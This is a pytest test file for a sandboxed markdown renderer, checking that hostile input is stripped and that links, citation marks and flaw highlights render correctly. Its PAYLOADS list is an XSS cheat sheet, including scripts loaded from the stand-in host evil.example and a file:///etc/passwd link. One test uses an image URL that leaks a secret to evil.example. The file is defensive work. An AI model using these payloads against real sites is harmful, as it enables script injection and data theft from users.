import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it.token import Token
from markupsafe import Markup

from widget.text import markdown
from widget.text.markdown import ATTRIBUTES, TAGS, Growing, paragraphs, render, target

WIKI = ("https://wiki.example.com",)
PAGE = "https://wiki.example.com/guide/start/"

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css'</style>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<div hx-get='/asks' hx-trigger='load'>x</div>",
    "<div hx-on:click='alert(1)'>x</div>",
    "<div data-hx-get='/asks' data-hx-trigger='load'>x</div>",
    "<div sse-connect='//evil.example'>x</div>",
    "<span hx-swap-oob='innerHTML:#log'>x</span>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://wiki.example.com/1)",
    "[x](filesystem:https://wiki.example.com/1)",
    "[x](view-source:https://wiki.example.com)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https:evil.example)",
    "[x](https://)",
    "[x](https://[::1)",
    "[x](https://a:99999999/)",
    "[x](https://e.example/ 'onmouseover=alert(1)')",
    '[x](https://e.example/"onmouseover=alert(1))',
    '[x](https://e.example/ "\\"><script>alert(1)</script>")',
    "[<img src=x onerror=alert(1)>](https://e.example/)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](data:image/png;base64,AAAA)",
    '![x"onerror="alert(1)](https://e.example/x.png)',
    '![x](https://e.example/x.png"onerror=alert(1))',
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```js\n</code></pre><script>alert(1)</script>\n```",
    "```python onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> | b |\n|---|---|\n| <img src=x onerror=alert(1)> | y |",
    "# <script>alert(1)</script>",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "{{ 7 * 7 }}{% raw %}",
    "\x00<script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<\u0073cript>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
]


class Elements(HTMLParser):
    """Every tag and attribute of a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize("images", [True, False])
@pytest.mark.parametrize("base", ["", PAGE])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives(payload: str, base: str, images: bool) -> None:
    check(render(payload, origins=WIKI, base=base, images=images))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_hostile_survives_while_it_grows(payload: str) -> None:
    growing = Growing(WIKI)
    text = f"a\n\n{payload}\n\nb\n\n{payload}\n"
    for end in (*range(0, len(text), 3), len(text)):
        check(growing.render(text[:end]))


def check(html: str) -> None:
    """Only what is allowed, and links that lead into the web."""
    for tag, attributes in elements(html):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel"}
        for name in ("href", "src"):
            if name in attributes:
                assert str(attributes[name]).startswith(("https://", "http://", "mailto:"))
        if tag == "a" and "href" in attributes:
            assert attributes["rel"] == "noopener nofollow"
            assert attributes["target"] in ("_top", "_blank")


@pytest.mark.parametrize("depth", [50, 5000])
def test_deep_nesting_neither_hangs_nor_crashes(depth: int) -> None:
    for piece in (">", "- ", "[", "*a **b ", "![", "`"):
        assert isinstance(str(render(piece * depth)), str)


def test_links_into_the_wiki_replace_the_page_and_others_open_a_tab() -> None:
    html = render(
        "[a](https://wiki.example.com/x/) [b](https://other.example/) [c](mailto:a@b.c)",
        origins=WIKI,
    )
    links = [attributes for tag, attributes in elements(html) if tag == "a"]
    assert [link["target"] for link in links] == ["_top", "_blank", "_blank"]
    assert target("https://wiki.example.com.evil.example/", WIKI) == "_blank"


def test_relative_links_start_from_the_page() -> None:
    html = render("[a](../ports/) [b](#linux) [c](/top) ![d](d.png)", base=PAGE, images=True)
    found = [str(a.get("href") or a.get("src")) for tag, a in elements(html) if tag in ("a", "img")]
    assert found == [
        "https://wiki.example.com/guide/ports/",
        "https://wiki.example.com/guide/start/#linux",
        "https://wiki.example.com/top",
        "https://wiki.example.com/guide/start/d.png",
    ]


@pytest.mark.parametrize("link", ["[ports](../ports/)", "[ports](ports.md#x)"])
def test_a_link_that_leads_nowhere_is_only_text(link: str) -> None:
    base = PAGE if ".md" in link else ""
    assert render(link, base=base) == "<p>ports</p>\n"


def test_a_models_image_is_a_link_unless_it_lies_in_the_wiki() -> None:
    html = render(
        "![leak](https://evil.example/?q=secret) ![ok](https://wiki.example.com/a.png)",
        origins=WIKI,
    )
    sources = [attributes["src"] for tag, attributes in elements(html) if tag == "img"]
    assert sources == ["https://wiki.example.com/a.png"]
    assert ">leak</a>" in html


def test_code_is_highlighted_with_classes_only() -> None:
    html = render("```python\nprint('a')  # b\n```")
    assert '<span class="nb">print</span>' in html
    assert "style" not in html


def test_code_that_takes_long_to_highlight_is_plain() -> None:
    """Pygments takes 3 s for it."""
    assert "<span" not in render(f"```make\n{'(' * 9000}\n```")


def test_tables_align_without_style_attributes() -> None:
    html = render("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<td class="right">1</td>' in html
    assert '<td class="center">2</td>' in html
    assert "style" not in html


def test_headings_stand_below_the_question() -> None:
    assert render("# a") == "<h3>a</h3>\n"
    assert render("###### a") == "<h6>a</h6>\n"


def cited(text: str, *ends: int) -> str:
    """The text with a mark behind each place, in square brackets."""
    cites = list(zip(ends, range(1, len(ends) + 1), strict=True))
    return str(render(text, cites=cites, mark=lambda number: Markup(f"[{number}]")))


def test_a_source_is_named_where_its_part_ends() -> None:
    text = "Run **it now.** Then stop."
    html = cited(text, len("Run **it now.** "), len(text))
    assert html == (
        '<p>Run <strong>it now.</strong><sup class="cite">[1]</sup>'
        ' Then stop.<sup class="cite">[2]</sup></p>\n'
    )


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a\n\n```sh\nls\n```", '<p>a<sup class="cite">[1]</sup></p>\n<pre'),
        ("| a |\n|---|\n| b |", '<td>b <sup class="cite">'),
        ("- a\n- b", '<li>b<sup class="cite">'),
        ("> a", '<p>a<sup class="cite">'),
        ("a\n\n---", '<p>a<sup class="cite">'),
        ("see [x](https://e.example/)", '</a><sup class="cite">'),
    ],
)
def test_a_mark_breaks_nothing_that_it_stands_behind(text: str, html: str) -> None:
    assert html in cited(text, len(text))


def test_code_without_words_before_it_has_no_number_of_its_own() -> None:
    assert "cite" not in cited("```sh\nls\n```", 12)


def test_a_number_stands_behind_its_sentence_and_not_within_it() -> None:
    text = "It runs on port 4000 of your machine. Then stop."
    assert 'machine.<sup class="cite">[1]</sup> Then' in cited(text, text.index(" of"))
    assert 'b<sup class="cite">[1]</sup></li>' in cited("- a b\n- c", 3)


def flawed(text: str, *parts: str) -> str:
    """The text with these parts underlined, and a number behind each."""
    flaws = [(text.index(part), text.index(part) + len(part)) for part in parts]
    return str(render(text, flaws=flaws, why=lambda number: Markup(f"({number})")))


@pytest.mark.parametrize(
    ("text", "part", "html"),
    [
        ("It is. It is not. So.", "It is not.", '<span class="flaw">It is not.</span>'),
        ("a **b** c", "a **b** c", '<strong><span class="flaw">b</span></strong>'),
        ("Use `x` now.", "Use `x` now.", '<span class="flaw"><code>x</code></span>'),
        ("1. One.\n2. Two.", "2. Two.", '<li><span class="flaw">Two.</span>'),
        ("- **Two** it", "- **Two** it", '<li><strong><span class="flaw">Two</span></strong>'),
        ("| a |\n|---|\n| b |", "| b |", '<td><span class="flaw">b </span><span class="why">'),
        ("# T\n\nx", "# T", '<h3><span class="flaw">T</span>'),
        ("[y](https://e.example/) z", "[y](https://e.example/) z", '"><span class="flaw">y</span>'),
        ("Do:\n\n```\nrm -r\n```", "rm -r", '<p>Do:<span class="why">(0)</span></p>'),
    ],
)
def test_what_is_wrong_is_underlined_with_a_word_behind_it(text: str, part: str, html: str) -> None:
    assert html in flawed(text, part)
    assert flawed(text, part).count('class="why">(0)</span>') == 1


def test_flaws_end_where_they_end() -> None:
    html = flawed("One. Two.\n\nThree. Four.", "Two.", "Three.")
    assert re.findall(r'"flaw">(.*?)<', html) == ["Two.", "Three."]


@settings(max_examples=60)
@given(st.data())
def test_flaws_anywhere_show_no_traces_and_take_nothing_away(data: st.DataObject) -> None:
    text = data.draw(st.text("ab .*_`|-#>1\n[]()!⁅⁆+"))
    place = st.integers(0, len(text))
    flaws = data.draw(st.lists(st.tuples(place, place).map(lambda t: (min(t), max(t))), max_size=3))
    cites = data.draw(st.lists(st.tuples(place, st.integers(1, 3)), max_size=2))
    html = str(render(text, flaws=flaws, cites=cites, why=lambda _: Markup("?")))
    assert not re.search("[⁅⁆]|%E2%81%8[56]", html)
    assert html.count('<span class="why">?</span>') == len(flaws)
    bare = re.sub(r'<span class="why">.</span>|<sup class="cite">.</sup>', "", html)
    read = [re.sub(r"<[^>]*>|\s", "", part) for part in (bare, str(render(text)))]
    assert read[0] == read[1]


@settings(max_examples=40)
@given(st.data())
def test_a_mark_anywhere_shows_no_traces_and_takes_nothing_away(data: st.DataObject) -> None:
    text = data.draw(st.text("ab .*_`|-\n[]()!⁅⁆1"))
    ends = data.draw(st.lists(st.integers(0, len(text)), max_size=3))
    html = cited(text, *ends)
    assert not re.search("[⁅⁆]|%E2%81%8[56]", html)
    for letter in "ab":
        assert html.count(letter) >= render(text).count(letter) - html.count("sup")


def test_a_text_cannot_make_marks() -> None:
    text = (
        'x ⁅1⁆ <sup class="cite">2</sup> [y](https://e.example/⁅3⁆ "⁅4⁆ <sup class=cite>5</sup>")'
    )
    assert 'cite">' not in cited(text).replace("&quot;", "")


def test_paragraphs_are_prose_as_readers_see_it() -> None:
    text = "# No\n\nOne `two`\n*three*\n\n- four\n\n```\ncode\n```\n\n![no](x.png) five"
    assert paragraphs(text) == ["One two three", "four", "five"]


@settings(max_examples=100, deadline=None)
@given(st.text("ab1.-*_`~#>|=+ \n\r\t()[]<&"), st.integers(1, 5))
@example("a\n| b | c |\n-|-|-", 1)  # a table for a moment
@example("- a\n\n1\n\n2. b", 1)
def test_a_growing_text_looks_as_if_it_were_rendered_again(text: str, step: int) -> None:
    growing = Growing(WIKI)
    for end in (*range(0, len(text), step), len(text)):
        assert growing.render(text[:end]) == render(text[:end], origins=WIKI)


def test_finished_blocks_of_a_growing_text_are_not_parsed_again(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    parsed: list[str] = []
    parse = markdown._parser.parse

    def spy(text: str) -> list[Token]:
        parsed.append(text)
        return parse(text)

    monkeypatch.setattr(markdown._parser, "parse", spy)
    growing = Growing()
    for end in range(len(text := "one\n\ntwo\n\n- three\n- four\n\n```\nfive\n```\nsix\n")):
        growing.render(text[:end])
    longest = {
        line: max(map(len, filter(lambda it: line in it, parsed))) for line in ("one", "six")
    }
    assert longest == {"one": len("one\n\ntwo\n"), "six": len("```\nfive\n```\nsix")}
